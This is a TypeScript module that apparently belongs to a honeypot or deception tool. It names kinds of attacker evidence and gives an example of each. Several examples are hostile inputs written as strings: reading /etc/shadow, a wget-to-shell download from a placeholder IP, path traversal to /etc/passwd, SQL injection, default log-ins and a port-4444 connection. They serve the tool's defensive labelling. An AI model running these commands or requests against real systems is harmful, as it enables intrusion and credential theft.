/** A kind of evidence, in words. */
export interface EvidenceKindWords {
  readonly name: string
  /** In the middle of a sentence, in the plural. */
  readonly many: string
  /** The field that a bare line stands for. */
  readonly main: string
  /** What one of them looks like. */
  readonly example: string
}

const kind = (name: string, many: string, main: string, example: string): EvidenceKindWords => ({ name, many, main, example })

/** In the order in which they are offered. */
export const evidenceKinds: readonly EvidenceKindWords[] = [
  kind('command', 'commands', 'command_text', 'cat /etc/shadow\nwget http://198.51.100.4/x.sh -O- | sh\nls -la'),
  kind(
    'http_request',
    'HTTP requests',
    'raw_url',
    'GET /.env\nGET /cgi-bin/../../../../etc/passwd\nPOST /login HTTP/1.1\nHost: shop.example\n\nuser=admin',
  ),
  kind('auth_attempt', 'log-ins', 'username', 'root:123456\nadmin:admin'),
  kind('query', 'database statements', 'query_text', 'SELECT * FROM users WHERE id = 1 OR 1=1\nSHOW DATABASES'),
  kind('file', 'files', 'path', '/tmp/.x/mirai.arm7'),
  kind('payload', 'raw bytes', 'payload_text', 'GET / HTTP/1.1'),
  kind('download', 'downloads', 'url', 'http://198.51.100.4/x.sh'),
  kind('connect', 'connections', 'target', 'tcp://198.51.100.4:4444'),
  kind('forward', 'tunnels', 'target', '169.254.169.254:80'),
  kind('email', 'mails', 'subject', 'Invoice overdue'),
  kind('fingerprint', 'fingerprints', 'client', 'SSH-2.0-Go'),
  kind('intel', 'reputation', 'aggregate_verdict', 'malicious'),
  kind('canary', 'canaries', 'user_agent', 'curl/8.5.0'),
  kind('credential', 'reused secrets', 'secret_kind', 'plaintext'),
  kind('identity', 'identities', 'change', 'merged'),
  kind('ics', 'industrial requests', 'function', 'plc_stop'),
  kind('topology_traversal', 'moves between deckies', 'attacker_ip', '198.51.100.7'),
  kind('session', 'whole sessions', 'end_reason', 'closed'),
]
const byName = new Map(evidenceKinds.map((each) => [each.name, each]))

export const kindOf = (name: string): EvidenceKindWords | undefined => byName.get(name)
/** `HTTP requests`; of a kind that is not known here, its name. */
export const kindWords = (name: string): string => byName.get(name)?.many ?? name.replaceAll('_', ' ')
/** `commands, queries and files`. */
export const kindList = (names: readonly string[]): string =>
  names.map(kindWords).reduce((said, next, n) => (n === 0 ? next : `${said}${n === names.length - 1 ? ' and' : ','} ${next}`), '')
